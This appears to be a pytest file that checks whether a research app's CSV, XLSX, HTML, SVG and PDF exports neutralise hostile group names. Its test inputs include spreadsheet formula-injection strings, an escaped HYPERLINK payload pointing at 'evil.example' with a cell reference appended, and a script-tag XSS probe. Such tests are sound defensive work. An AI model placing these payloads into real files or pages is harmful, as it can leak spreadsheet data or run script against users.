"""Group names and patient ids come from untrusted files: in every output a formula stays
text (CSV, XLSX), markup stays text (HTML, SVG) and the names still read as written."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from openpyxl import load_workbook

from resort_gui.export.safe_write import FORMULA_PREFIXES, neutralise_cell
from tests.export.conftest import HOSTILE_GROUPS
from tests.export.pdf_text import pdf_text

HYPERLINK = HOSTILE_GROUPS[0]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) and not _is_number(text)


@pytest.mark.parametrize("value", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx",
                                   '=HYPERLINK("http://x")'])
def test_formula_text_gets_a_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.5", "+3", "1e-3", "plain", "", 4, None, "'=x"])
def test_numbers_and_plain_text_stay_as_they_are(value) -> None:
    assert neutralise_cell(value) == value


def test_no_csv_cell_can_run_as_a_formula(hostile_out: Path) -> None:
    seen_quoted = False
    for path in hostile_out.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(_dangerous(c) for c in row), (path.name, row)
                seen_quoted |= "'" + HYPERLINK in row
    assert seen_quoted  # the group name is there, neutralised


def test_no_xlsx_cell_is_a_formula(hostile_out: Path) -> None:
    book = load_workbook(hostile_out / "results.xlsx")
    strings = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _dangerous(cell.value), (sheet.title, cell.value)
                    strings.append(cell.value)
    assert "'" + HYPERLINK in strings
    assert "'@SUM(1+1)" in strings and "'-2+3" in strings


def test_svg_is_well_formed_and_shows_the_names_as_text(hostile_out: Path) -> None:
    root = ET.parse(hostile_out / "km.svg").getroot()  # raises if the markup leaked
    texts = "\n".join(t.text or "" for t in root.iter("{http://www.w3.org/2000/svg}text"))
    for name in HOSTILE_GROUPS:
        assert name in texts
    assert not list(root.iter("{http://www.w3.org/2000/svg}script"))


def test_html_report_escapes_the_names(hostile_out: Path) -> None:
    page = (hostile_out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co" in page
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)" in page
    assert 'href="http' not in page and 'src="http' not in page


def test_pdf_report_and_figure_show_the_names_as_written(hostile_out: Path) -> None:
    for name in ("report.pdf", "km.pdf"):
        text = pdf_text(hostile_out / name)
        assert "<script>alert(1)</script> & co" in text, name
        assert "HYPERLINK(" in text, name
